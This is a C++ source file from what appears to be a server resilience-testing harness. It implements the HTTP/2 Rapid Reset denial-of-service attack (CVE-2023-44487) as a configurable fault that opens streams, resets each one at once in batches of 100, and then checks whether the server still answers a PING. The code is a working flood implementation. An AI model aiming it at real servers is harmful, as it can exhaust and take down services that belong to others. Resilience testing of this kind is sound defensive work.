// Opens streams and resets each at once: CVE-2023-44487. It costs the client nothing, never reaches
// the limit of concurrent streams, and a server that does not count pays with a request for each.

#include "faults/http2_talk.hpp"
#include "harness/config/object_reader.hpp"

namespace stormdrain::faults {

namespace {

constexpr std::uint32_t cancel = 8;  // RFC 9113 section 7
constexpr std::uint32_t streams_a_write = 100;

class http2_reset_flood_fault : public connection_fault {
public:
    http2_reset_flood_fault(std::string route, std::uint32_t streams_count)
        : connection_fault({"http2_reset_flood",
                            held_condition::none,
                            strike_point::request_headers,
                            {std::move(route)},
                            needed_port::http2}),
          streams_count_(streams_count) {}

protected:
    boost::asio::awaitable<void> strike(strike_attempt& here) const override {
        http2_talk talk(here);
        bool goes_on = co_await talk.connect();
        const std::string greeting =
            http2_greeting() + to_bytes(acknowledgement_of(settings_frame()));
        if (goes_on) {
            goes_on = co_await here.send(greeting);
        }
        if (!goes_on) {
            co_return;
        }
        here.begins();
        const std::uint32_t reset_count = co_await flood(here, talk);
        if (reset_count == 0) {
            co_return;
        }
        const std::string sent = std::to_string(reset_count) + " streams opened and reset";
        co_await see_it_through(here, talk, sent);
    }

private:
    // How many the server's kernel took: not all where the server ends the connection meanwhile.
    boost::asio::awaitable<std::uint32_t> flood(strike_attempt& here, http2_talk& talk) const {
        std::uint32_t done_count = 0;
        while (done_count < streams_count_) {
            std::string bytes;
            const std::uint32_t until = std::min(streams_count_, done_count + streams_a_write);
            for (std::uint32_t number = done_count; number < until; ++number) {
                const std::uint32_t stream = 2 * number + 1;
                const std::string request = talk.request(stream, route_name());
                if (request.empty()) {
                    co_return 0U;
                }
                bytes += request + to_bytes(reset_frame(stream, cancel));
            }
            const transfer sent = co_await here.connection().write(bytes, here.deadline());
            if (sent.error == boost::asio::error::operation_aborted) {
                throw boost::system::system_error(sent.error);
            }
            if (sent.error) {
                if (done_count == 0) {
                    here.not_delivered("sending failed: " + sent.error.message());
                }
                break;
            }
            done_count = until;
        }
        co_return done_count;
    }

    // The server has dealt with them all when it answers a PING behind them, or has had enough.
    static boost::asio::awaitable<void> see_it_through(strike_attempt& here, http2_talk& talk,
                                                       std::string sent) {
        http2_frame ping;
        ping.type = http2_frame_type::ping;
        ping.payload = "stormdrn";
        const std::string asked = to_bytes(ping);
        const transfer written = co_await here.connection().write(asked, here.deadline());
        if (written.error == boost::asio::error::operation_aborted) {
            throw boost::system::system_error(written.error);
        }
        const std::optional<http2_frame> answer =
            co_await talk.hear(http2_frame_type::ping, here.deadline());
        if (answer) {
            here.delivered(sent + ", the server answered a PING behind them");
        } else if (talk.has_ended()) {
            const std::string farewells = talk.farewells();
            here.delivered(sent + ", the server ended the connection" +
                           (farewells.empty() ? " without a word" : " by " + farewells));
        } else {
            here.not_delivered(sent + ", and the server said nothing in time");
        }
    }

    std::uint32_t streams_count_;
};

std::unique_ptr<const fault> read(object_reader& keys) {
    constexpr std::int64_t streams_max = 100'000;
    std::string route = keys.text("route", "delayed");
    const std::int64_t streams = keys.integer("streams", 1, streams_max, 1000);
    return std::make_unique<http2_reset_flood_fault>(std::move(route),
                                                     static_cast<std::uint32_t>(streams));
}

}  // namespace

extern const fault_kind http2_reset_flood{
    "http2_reset_flood", "An HTTP/2 client that opens streams and resets each at once.", read};

}  // namespace stormdrain::faults
